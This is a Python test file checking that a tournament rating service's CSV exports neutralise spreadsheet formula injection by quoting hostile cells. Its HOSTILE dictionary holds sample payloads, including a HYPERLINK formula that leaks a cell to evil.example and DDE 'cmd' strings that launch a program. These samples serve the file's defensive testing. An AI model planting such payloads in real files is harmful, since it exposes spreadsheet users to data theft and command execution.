"""CSV formula injection: a cell a spreadsheet would run as a formula is written as text.

Every CSV the service writes (the rating list over HTTP, ``recorder ratings list --csv``)
passes each text cell through ``recorder.render.csv_cells``: a cell that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return is prefixed with a single quote
(OWASP's CSV-injection advice), so a name such as ``=HYPERLINK("http://…")`` shows as
that text and is never evaluated.
"""

import csv
import io

from click.testing import CliRunner
from conftest import make_app
from hypothesis import given, settings
from hypothesis import strategies as st

from recorder.cli.main import main
from recorder.render.csv_cells import FORMULA_STARTS, spreadsheet_cell

HOSTILE = {
    "hyperlink": ('=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "=cmd|' /C calc'!A0"),
    "at": ("@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0"),
    "minus": ("-2+3+cmd|' /C calc'!A0", None),
}


def ok(response):
    assert response.status_code in (200, 201), response.get_json()
    return response.get_json()


def rated_list_of_hostile_names(client) -> list[str]:
    """A rated round robin whose four registry players have names and clubs a spreadsheet would run."""
    ids = []
    for name, club in [*HOSTILE.values(), ("Abeba Tesfaye", "Asmara MC")]:
        body = {"name": name, "federation": "ETH", "club": club, "force": True}
        ids.append(ok(client.post("/api/players", json=body))["id"])
    body = {"name": "Open", "variant": "qelat", "format": "round_robin", "rated": True}
    tid = ok(client.post("/api/tournaments", json=body))["id"]
    for player_id in ids:
        ok(client.post(f"/api/tournaments/{tid}/players", json={"player_id": player_id}))
    for board in ok(client.post(f"/api/tournaments/{tid}/rounds", json={}))["boards"]:
        game = ok(client.post(f"/api/tournaments/{tid}/rounds/1/boards/{board['board']}/game", json={}))
        result = {"type": "result", "kind": "resignation", "winner": "south", "expected_version": 1}
        ok(client.post(f"/api/games/{game['id']}/commands", json=result))
    return ids


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_the_rating_list_csv_neutralises_every_cell_a_spreadsheet_would_run(tmp_path):
    app = make_app(tmp_path / "csv.sqlite3")
    client = app.test_client()
    rated_list_of_hostile_names(client)
    text = client.get("/api/ratings/qelat.csv").get_data(as_text=True)
    written = cells(text)
    assert not [cell for cell in written if cell.startswith(FORMULA_STARTS)], text
    for name, club in HOSTILE.values():
        assert "'" + name in written
        assert club is None or "'" + club in written
    assert "Abeba Tesfaye" in written and "Asmara MC" in written  # harmless text is as it was
    listing = ok(client.get("/api/ratings/qelat"))  # the JSON list keeps the names as registered
    assert {e["name"] for e in listing["players"]} >= {name for name, _ in HOSTILE.values()}


def test_the_command_lines_rating_csv_neutralises_every_cell_a_spreadsheet_would_run(tmp_path):
    app = make_app(tmp_path / "csv.sqlite3")
    rated_list_of_hostile_names(app.test_client())
    result = CliRunner().invoke(main, ["ratings", "list", "qelat", "--csv", "--db", app.config["DATABASE"]])
    assert result.exit_code == 0, result.output
    written = cells(result.stdout)
    assert not [cell for cell in written if cell.startswith(FORMULA_STARTS)], result.stdout
    assert all("'" + name in written for name, _ in HOSTILE.values())


@settings(max_examples=300, derandomize=True)
@given(st.one_of(st.text(), st.integers(), st.floats(allow_nan=False), st.none(), st.booleans()))
def test_a_neutralised_cell_never_starts_a_formula_and_keeps_its_text(value):
    cell = spreadsheet_cell(value)
    if not isinstance(value, str):
        assert cell == value  # numbers stay numbers: a rating of -1 is no formula a name planted
        return
    assert not cell.startswith(FORMULA_STARTS)
    assert cell in (value, "'" + value)
    assert (cell != value) == value.startswith(FORMULA_STARTS)
